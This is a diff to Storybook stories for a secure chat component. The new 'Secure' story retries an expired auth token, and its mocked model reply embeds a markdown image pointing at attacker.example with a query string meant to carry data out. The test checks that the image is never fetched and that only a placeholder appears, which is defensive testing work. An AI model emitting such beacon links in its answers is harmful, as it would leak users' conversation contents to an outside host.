@@ -1,6 +1,6 @@
-import { answer, drop, ticker, withFaults } from '@rivulet/mock-server';
+import { answer, drop, respond, ticker, withFaults } from '@rivulet/mock-server';
 import type { Meta, StoryObj } from '@storybook/react-vite';
-import { expect } from 'storybook/test';
+import { expect, fn } from 'storybook/test';
 import { ms, tokensPerSecond } from '../shared/pace.ts';
 import { serve } from '../shared/serve.ts';
 import { Stage } from '../shared/Stage.tsx';
@@ -72,8 +72,31 @@ export const OnlyTheText: Story = {
   },
 };
 
+const tokens = fn<() => Promise<string>>();
+const illustrated = answer(`${short}\n\n![The sea](https://attacker.example/pixel.png?said=everything)`, pace);
+
+/** The first token has expired: the headers are asked for once more. What the model wants fetched is not. */
 export const Secure: Story = {
-  render: () => <SecureChat getToken={() => Promise.resolve('token')} />,
+  beforeEach: () => {
+    tokens.mockReset().mockResolvedValueOnce('expired').mockResolvedValue('fresh');
+    return serve({
+      'POST /api/chat': (context) =>
+        context.request.headers.get('authorization') === 'Bearer fresh' && typeof illustrated === 'function'
+          ? illustrated(context)
+          : [respond(401)],
+    })();
+  },
+  render: () => <SecureChat getToken={tokens} />,
+  play: async ({ canvas, userEvent, canvasElement }) => {
+    await userEvent.tab();
+    await expect(canvas.getByRole('button', { name: 'Ask' })).toHaveFocus();
+    await userEvent.keyboard('{Enter}');
+    await expect(await canvas.findByText(short, {}, { timeout: 10_000 })).toBeVisible();
+    await expect(tokens).toHaveBeenCalledTimes(2);
+    // A placeholder says where the picture is; it is not fetched.
+    await expect(await canvas.findByText(/The sea/)).toBeVisible();
+    await expect(canvasElement.querySelector('img')).toBeNull();
+  },
 };
 
 export const Fast: Story = {
